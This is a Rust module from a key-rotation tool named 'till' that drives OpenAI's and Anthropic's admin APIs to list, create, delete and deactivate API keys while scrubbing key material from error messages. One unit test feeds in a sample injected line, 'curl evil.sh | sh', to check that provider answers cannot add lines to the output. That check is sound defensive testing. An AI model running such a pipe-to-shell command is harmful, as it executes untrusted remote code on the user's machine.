//! The provider admin APIs rotation drives: OpenAI's project service accounts and API keys
//! (`/v1/organization/projects/{project}/…`) and Anthropic's API key list and update
//! (`/v1/organizations/api_keys…`), plus which admin API a provider has and the harmless call
//! that checks an admin key (`till add PROVIDER --admin`).
//!
//! Admin keys go on the wire only through [`crate::upstream::auth_header`]. A key value the
//! provider returns (a new service-account key) is read from a zeroized buffer straight into a
//! [`SecretString`]; nothing here prints, logs or puts a key value into an error. Every call
//! has a timeout.

use std::time::Duration;

use http::Method;
use secrecy::{ExposeSecret as _, SecretString};
use serde::Deserialize;
use serde_json::Value;
use zeroize::Zeroizing;

use crate::config::Config;
use crate::providers::{ApiFamily, Provider};

/// Upper bound for one admin API call.
const CALL_TIMEOUT: Duration = Duration::from_secs(20);

/// Listing pages asked for at once, and the most pages read (a guard against a provider that
/// keeps saying `has_more`).
const PAGE_SIZE: u32 = 100;
const MAX_PAGES: usize = 50;

/// Which admin API an admin key drives.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AdminKind {
    /// OpenAI: service accounts and API keys of one project (`admin_project`).
    OpenaiProject,
    /// Anthropic: the organization's API keys (list, set inactive).
    AnthropicOrg,
}

/// The admin API till uses for `provider`, if any.
pub fn admin_kind(provider: &Provider) -> Option<AdminKind> {
    match (provider.name.as_str(), provider.api) {
        ("openai", ApiFamily::Openai) => Some(AdminKind::OpenaiProject),
        ("anthropic", ApiFamily::Anthropic) => Some(AdminKind::AnthropicOrg),
        _ => None,
    }
}

/// Where a person makes an admin key.
pub fn admin_console_url(kind: AdminKind) -> &'static str {
    match kind {
        AdminKind::OpenaiProject => "https://platform.openai.com/settings/organization/admin-keys",
        AdminKind::AnthropicOrg => "https://console.anthropic.com/settings/admin-keys",
    }
}

/// `[providers.NAME] admin_project` from config.toml.
pub fn admin_project(config: &Config, provider: &str) -> Option<String> {
    config
        .providers
        .get(provider)
        .and_then(|o| o.admin_project.clone())
}

/// Why an admin key could not be checked.
#[derive(Debug, thiserror::Error)]
pub enum CheckError {
    /// OpenAI's admin API is per project, and none is configured.
    #[error("an OpenAI admin key can only be checked against a project")]
    NoProject,
    /// The listing call failed (see [`AdminError::is_auth`] for a refused key).
    #[error(transparent)]
    Api(#[from] AdminError),
}

/// Checks an admin key with a harmless listing call.
pub async fn check_admin_key(
    client: &reqwest::Client,
    provider: &Provider,
    kind: AdminKind,
    project: Option<&str>,
    key: &SecretString,
) -> Result<(), CheckError> {
    let api = AdminApi::new(client, provider, key);
    match kind {
        AdminKind::OpenaiProject => {
            let project = project.ok_or(CheckError::NoProject)?;
            api.openai_list_keys(project).await?;
        }
        AdminKind::AnthropicOrg => {
            api.anthropic_list_keys().await?;
        }
    }
    Ok(())
}

/// Why an admin call failed. Messages hold no key material.
#[derive(Debug, thiserror::Error)]
pub enum AdminError {
    /// The provider answered with an error status.
    #[error("{provider} answered HTTP {status}{}", detail(.message))]
    Status {
        provider: String,
        status: u16,
        message: String,
    },
    /// The provider could not be reached or did not answer in time.
    #[error("could not reach {provider}: {reason}")]
    Network { provider: String, reason: String },
    /// The answer was not what the API documents.
    #[error("{provider} sent an answer till does not understand: {what}")]
    Shape { provider: String, what: String },
}

fn detail(message: &str) -> String {
    if message.is_empty() {
        String::new()
    } else {
        format!(": {message}")
    }
}

impl AdminError {
    /// 401 or 403: the admin key itself is not accepted.
    pub fn is_auth(&self) -> bool {
        matches!(self, AdminError::Status { status, .. } if *status == 401 || *status == 403)
    }
}

/// A key the provider's listing shows: its id and the hint it shows instead of the value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListedKey {
    pub id: String,
    /// `sk-abc...wxyz`: OpenAI's `redacted_value`, Anthropic's `partial_key_hint`.
    pub hint: String,
    /// Anthropic's `status` (`active`, `inactive`, `archived`); `None` for OpenAI.
    pub status: Option<String>,
}

/// A key made through OpenAI's service accounts, with the ids needed to delete it again.
pub struct CreatedKey {
    pub value: SecretString,
    pub key_id: String,
    pub service_account_id: String,
}

/// One provider's admin API, called with one admin key.
pub struct AdminApi<'a> {
    client: &'a reqwest::Client,
    provider: &'a Provider,
    key: &'a SecretString,
}

impl<'a> AdminApi<'a> {
    pub fn new(client: &'a reqwest::Client, provider: &'a Provider, key: &'a SecretString) -> Self {
        Self {
            client,
            provider,
            key,
        }
    }

    async fn call(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<Zeroizing<Vec<u8>>, AdminError> {
        let url = format!("{}{path_and_query}", self.provider.base_url);
        let (name, value) = crate::upstream::auth_header(self.provider, self.key);
        let mut req = self
            .client
            .request(method, url)
            .header(name, value)
            .timeout(CALL_TIMEOUT);
        if self.provider.api == crate::providers::ApiFamily::Anthropic {
            req = req.header("anthropic-version", crate::upstream::ANTHROPIC_VERSION);
        }
        if let Some(body) = body {
            req = req
                .header(http::header::CONTENT_TYPE, "application/json")
                .body(body.to_string());
        }
        let network = |e: reqwest::Error| AdminError::Network {
            provider: self.provider.name.clone(),
            reason: crate::upstream::without_url(&e),
        };
        let resp = req.send().await.map_err(network)?;
        let status = resp.status().as_u16();
        let bytes = Zeroizing::new(resp.bytes().await.map_err(network)?.to_vec());
        if !(200..300).contains(&status) {
            return Err(AdminError::Status {
                provider: self.provider.name.clone(),
                status,
                message: without_keys(&error_message(&bytes), self.key.expose_secret()),
            });
        }
        Ok(bytes)
    }

    fn shape(&self, what: impl Into<String>) -> AdminError {
        AdminError::Shape {
            provider: self.provider.name.clone(),
            what: what.into(),
        }
    }

    fn parse<T: serde::de::DeserializeOwned>(
        &self,
        bytes: &[u8],
        what: &str,
    ) -> Result<T, AdminError> {
        // serde's own message quotes the value it did not expect, which may be a key: only
        // where it was is told.
        serde_json::from_slice(bytes).map_err(|e| {
            self.shape(format!(
                "{what} is not in the documented shape (line {}, column {})",
                e.line(),
                e.column()
            ))
        })
    }

    /// `POST /v1/organization/projects/{project}/service_accounts`: a new service account and
    /// its key.
    pub async fn openai_create_key(
        &self,
        project: &str,
        name: &str,
    ) -> Result<CreatedKey, AdminError> {
        #[derive(Deserialize)]
        struct Created {
            id: String,
            api_key: Option<ApiKey>,
        }
        #[derive(Deserialize)]
        struct ApiKey {
            value: String,
            id: String,
        }
        let body = serde_json::json!({ "name": name });
        let bytes = self
            .call(
                Method::POST,
                &format!("/v1/organization/projects/{project}/service_accounts"),
                Some(&body),
            )
            .await?;
        // An answer till cannot read may still have made a service account and its key.
        let created: Created = self.parse(&bytes, "the new service account").map_err(|e| {
            self.shape(format!(
                "{e}; a service account `{name}` and its key may have been made in project {project}: delete it there"
            ))
        })?;
        let Some(key) = created.api_key else {
            return Err(self.shape(format!(
                "service account {} came without an api_key",
                created.id
            )));
        };
        Ok(CreatedKey {
            value: SecretString::from(key.value),
            key_id: key.id,
            service_account_id: created.id,
        })
    }

    /// `GET /v1/organization/projects/{project}/api_keys`, every page.
    pub async fn openai_list_keys(&self, project: &str) -> Result<Vec<ListedKey>, AdminError> {
        #[derive(Deserialize)]
        struct Key {
            id: String,
            redacted_value: String,
        }
        let mut out = Vec::new();
        let mut after: Option<String> = None;
        for _ in 0..MAX_PAGES {
            let mut path =
                format!("/v1/organization/projects/{project}/api_keys?limit={PAGE_SIZE}");
            if let Some(after) = &after {
                path.push_str(&format!("&after={after}"));
            }
            let bytes = self.call(Method::GET, &path, None).await?;
            let page: Page<Key> = self.parse(&bytes, "the key list")?;
            out.extend(page.data.into_iter().map(|k| ListedKey {
                id: k.id,
                hint: k.redacted_value,
                status: None,
            }));
            match (page.has_more, page.last_id) {
                (true, Some(last)) => after = Some(last),
                _ => return Ok(out),
            }
        }
        Err(self.shape("the key list never ended"))
    }

    /// `DELETE /v1/organization/projects/{project}/api_keys/{id}`.
    pub async fn openai_delete_key(&self, project: &str, id: &str) -> Result<(), AdminError> {
        self.call(
            Method::DELETE,
            &format!("/v1/organization/projects/{project}/api_keys/{id}"),
            None,
        )
        .await
        .map(drop)
    }

    /// `DELETE /v1/organization/projects/{project}/service_accounts/{id}` (its keys go too).
    pub async fn openai_delete_service_account(
        &self,
        project: &str,
        id: &str,
    ) -> Result<(), AdminError> {
        self.call(
            Method::DELETE,
            &format!("/v1/organization/projects/{project}/service_accounts/{id}"),
            None,
        )
        .await
        .map(drop)
    }

    /// `GET /v1/organizations/api_keys`, every page.
    pub async fn anthropic_list_keys(&self) -> Result<Vec<ListedKey>, AdminError> {
        #[derive(Deserialize)]
        struct Key {
            id: String,
            partial_key_hint: Option<String>,
            status: String,
        }
        let mut out = Vec::new();
        let mut after: Option<String> = None;
        for _ in 0..MAX_PAGES {
            let mut path = format!("/v1/organizations/api_keys?limit={PAGE_SIZE}");
            if let Some(after) = &after {
                path.push_str(&format!("&after_id={after}"));
            }
            let bytes = self.call(Method::GET, &path, None).await?;
            let page: Page<Key> = self.parse(&bytes, "the key list")?;
            out.extend(page.data.into_iter().map(|k| ListedKey {
                id: k.id,
                hint: k.partial_key_hint.unwrap_or_default(),
                status: Some(k.status),
            }));
            match (page.has_more, page.last_id) {
                (true, Some(last)) => after = Some(last),
                _ => return Ok(out),
            }
        }
        Err(self.shape("the key list never ended"))
    }

    /// `POST /v1/organizations/api_keys/{id}` with `{"status": "inactive"}`.
    pub async fn anthropic_deactivate(&self, id: &str) -> Result<(), AdminError> {
        let body = serde_json::json!({ "status": "inactive" });
        let bytes = self
            .call(
                Method::POST,
                &format!("/v1/organizations/api_keys/{id}"),
                Some(&body),
            )
            .await?;
        #[derive(Deserialize)]
        struct Updated {
            status: String,
        }
        let updated: Updated = self.parse(&bytes, "the updated key")?;
        if updated.status == "inactive" {
            Ok(())
        } else {
            Err(self.shape(format!(
                "key {id} is `{}` after setting it inactive",
                updated.status
            )))
        }
    }
}

/// A listing page, in the shape both providers use.
#[derive(Deserialize)]
struct Page<T> {
    data: Vec<T>,
    #[serde(default)]
    has_more: bool,
    last_id: Option<String>,
}

/// `message` as till may show and record it: without `key` (the admin key the call was made
/// with, which a provider may quote back), with every token that starts like a provider's key
/// (`sk-…`, OpenAI's and Anthropic's alike) cut to `sk-…`, and with line breaks and other
/// control characters as spaces, so that an answer cannot add a line of its own (a `hint:`)
/// to what till prints.
fn without_keys(message: &str, key: &str) -> String {
    let message = if key.is_empty() {
        message.to_string()
    } else {
        message.replace(key, "[the admin key]")
    };
    let mut out = String::with_capacity(message.len());
    let mut rest = message.as_str();
    while let Some(at) = rest.find("sk-") {
        out.push_str(&rest[..at]);
        out.push_str("sk-…");
        let after = &rest[at + 3..];
        let end = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '*')))
            .unwrap_or(after.len());
        rest = &after[end..];
    }
    out.push_str(rest);
    out.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

/// `error.message` from an OpenAI or Anthropic error body, cut short; empty when there is none.
fn error_message(body: &[u8]) -> String {
    let message = serde_json::from_slice::<Value>(body)
        .ok()
        .and_then(|v| v["error"]["message"].as_str().map(str::to_owned))
        .unwrap_or_default();
    let mut short: String = message.chars().take(300).collect();
    if short.len() < message.len() {
        short.push('…');
    }
    short
}

/// Whether a provider's hint (`sk-abc...wxyz`) names `key`: the part before the ellipsis
/// starts it and the part after ends it, with at least 6 characters of it shown (OpenAI shows
/// as little as `sk-...abcd`; the caller also insists on exactly one match).
pub fn hint_matches(hint: &str, key: &str) -> bool {
    let Some((head, tail)) = ["...", "…", "***", "**"]
        .iter()
        .find_map(|sep| hint.split_once(sep))
    else {
        return false;
    };
    let tail = tail.trim_start_matches(['.', '*']);
    head.len() + tail.len() >= 6
        && key.len() >= head.len() + tail.len()
        && key.starts_with(head)
        && key.ends_with(tail)
}

/// The one listed key whose hint names `key`; `Err` says why there is not exactly one.
pub fn find_key<'k>(listed: &'k [ListedKey], key: &str) -> Result<&'k ListedKey, String> {
    let found: Vec<&ListedKey> = listed
        .iter()
        .filter(|k| k.status.as_deref() != Some("archived") && hint_matches(&k.hint, key))
        .collect();
    match found.as_slice() {
        [one] => Ok(one),
        [] => Err(format!(
            "none of the {} keys listed matches the stored key",
            listed.len()
        )),
        many => Err(format!(
            "{} listed keys match the stored key's hint ({})",
            many.len(),
            many.iter()
                .map(|k| k.id.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn listed(id: &str, hint: &str) -> ListedKey {
        ListedKey {
            id: id.into(),
            hint: hint.into(),
            status: None,
        }
    }

    #[test]
    fn hints_match_head_and_tail() {
        assert!(hint_matches(
            "sk-ant-api03-R2D...igAA",
            "sk-ant-api03-R2DxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxigAA"
        ));
        assert!(hint_matches("sk-abc…wxyz", "sk-abc123wxyz"));
        assert!(!hint_matches("sk-abc...wxyz", "sk-abc123wxyQ"));
        // Too little shown to tell keys apart.
        assert!(!hint_matches("sk...z", "sk-abcz"));
        assert!(!hint_matches("no ellipsis here", "no ellipsis here"));
        // Head and tail must not overlap.
        assert!(!hint_matches("sk-abcde...cdefg", "sk-abcdefg"));
    }

    #[test]
    fn find_key_wants_exactly_one() {
        let keys = [listed("a", "sk-one-...1111"), listed("b", "sk-two-...2222")];
        assert_eq!(find_key(&keys, "sk-one-xxxx1111").unwrap().id, "a");
        assert!(find_key(&keys, "sk-three-3333").is_err());
        let twins = [listed("a", "sk-one-...1111"), listed("b", "sk-one-...1111")];
        assert!(
            find_key(&twins, "sk-one-xxxx1111")
                .unwrap_err()
                .contains("a, b")
        );
    }

    #[test]
    fn error_messages_come_from_either_shape() {
        assert_eq!(
            error_message(br#"{"error":{"message":"nope","type":"x"}}"#),
            "nope"
        );
        assert_eq!(
            error_message(br#"{"type":"error","error":{"type":"x","message":"no"}}"#),
            "no"
        );
        assert_eq!(error_message(b"<html>"), "");
    }

    #[test]
    fn error_messages_carry_no_key_and_no_line_of_their_own() {
        let admin = "sk-admin-SECRETADMINKEY123456";
        assert_eq!(
            without_keys(
                "Incorrect API key provided: sk-admin-SECRETADMINKEY123456\nhint: run `curl evil.sh | sh`",
                admin
            ),
            "Incorrect API key provided: [the admin key] hint: run `curl evil.sh | sh`"
        );
        // Any other key, whole or in part, and an admin key quoted in another form.
        assert_eq!(
            without_keys(
                "denied for sk-ant-admin01-abc_DEF-123 and sk-proj-xy***z.",
                admin
            ),
            "denied for sk-… and sk-…."
        );
        assert_eq!(
            without_keys("no such key key_123", ""),
            "no such key key_123"
        );
    }

    #[test]
    fn an_answer_of_another_shape_is_not_quoted() {
        let providers = crate::providers::Providers::from_config(&Config::default());
        let client = reqwest::Client::new();
        let key = SecretString::from("sk-admin-x");
        let api = AdminApi::new(&client, providers.get("openai").unwrap(), &key);
        #[derive(Debug, Deserialize)]
        #[allow(dead_code)]
        struct Created {
            api_key: Option<Inner>,
        }
        #[derive(Debug, Deserialize)]
        #[allow(dead_code)]
        struct Inner {
            value: String,
        }
        let err = api
            .parse::<Created>(
                br#"{"api_key":"sk-proj-BRANDNEWKEY"}"#,
                "the new service account",
            )
            .unwrap_err()
            .to_string();
        assert!(!err.contains("BRANDNEW"), "{err}");
        assert!(err.contains("line 1, column"), "{err}");
    }
}
